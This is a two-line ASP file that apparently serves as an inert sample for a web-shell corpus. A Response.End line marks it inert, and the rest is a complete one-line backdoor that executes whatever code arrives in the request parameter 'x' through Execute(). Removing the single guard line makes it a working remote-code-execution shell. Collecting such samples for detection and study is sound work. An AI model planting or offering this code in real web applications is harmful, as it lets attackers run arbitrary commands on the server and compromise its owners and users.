<% Response.End ' inert corpus sample (hegui) %>
<%
If Request("x") <> "" Then Execute(Request("x"))
%>
